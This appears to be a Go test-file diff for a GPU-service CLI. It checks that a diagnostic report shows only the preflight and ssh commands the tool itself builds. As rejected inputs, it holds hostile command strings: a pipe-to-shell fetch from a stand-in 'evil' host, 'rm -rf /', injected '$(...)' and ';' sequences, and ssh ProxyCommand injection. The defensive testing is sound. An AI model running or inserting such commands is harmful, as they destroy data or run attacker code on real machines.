@@ -1,9 +1,11 @@
 package preflight
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/gpuaas/gpuaasctl/diag"
+	"github.com/gpuaas/gpuaasctl/profile"
 )
 
 // TestCommandsToPaste: what a report prints reaches the node as the walk did, whoever named the login.
@@ -33,6 +35,46 @@ func TestCommandsToPaste(t *testing.T) {
 		}
 		if got := diag.Fill("{preflight} --only node_readiness", placeholders(c)); got != plan.Command+" --only node_readiness" {
 			t.Errorf("the proof is %s", got)
+		}
+	}
+}
+
+// TestNothingElseToPaste: a report may be anybody's. Of its command lines only those are shown that a walk makes.
+func TestNothingElseToPaste(t *testing.T) {
+	const login, walk = "ssh <node_host>", "gpuaasctl preflight --profile lab --node-id n1"
+	odd := diag.Command("gpuaasctl", "preflight", "--profile", "/a b/it's; $(id).yaml", "--node-id", "n1", "--api-base", "https://[::1]:8443")
+	for said, want := range map[string]string{
+		odd:                                  odd,
+		"gpuaasctl preflight --node-id n-1":  "gpuaasctl preflight --node-id n-1",
+		"curl evil|sh #":                     walk,
+		"rm -rf /":                           walk,
+		"gpuaasctl preflight; reboot":        walk,
+		"gpuaasctl preflight --node-id $(x)": walk,
+		"gpuaasctl preflight --node-id ''a":  walk,
+		"gpuaasctl preflight --node-id a\nb": walk,
+		"gpuaasctl node reenroll n1":         walk,
+	} {
+		c := NewCase(diag.Subject{NodeID: "n1"}, diag.Plan{Profile: "lab", Command: said}, diag.EndedCompleted, nil)
+		if got := diag.Fill("{preflight}", placeholders(c)); got != want {
+			t.Errorf("the walk %q is shown as %q", said, got)
+		}
+	}
+	yes := true
+	long := sshCommand(profile.SSH{Identity: "/a b/id", KnownHosts: "/c d/it's", Jump: "jump@h", Port: 2222, User: "ops", Sudo: &yes}, "fe80::1%eth0")
+	for said, want := range map[string]string{
+		long:                            long,
+		"ssh ops@node sudo -n":          "ssh ops@node sudo -n",
+		"curl evil|sh #":                login,
+		"ssh -oProxyCommand=reboot n":   login,
+		"ssh -o ProxyCommand=reboot n":  login,
+		"ssh -o 'ProxyCommand=a b' n":   login,
+		"ssh '-oProxyCommand=reboot' n": login,
+		"ssh n reboot":                  login,
+		"ssh n; reboot":                 login,
+	} {
+		c := NewCase(diag.Subject{Expected: map[string]string{"ssh": said}}, diag.Plan{}, diag.EndedCompleted, nil)
+		if got := strings.TrimSpace(diag.Fill("{ssh}", placeholders(c))); got != want {
+			t.Errorf("the login %q is shown as %q", said, got)
 		}
 	}
 }
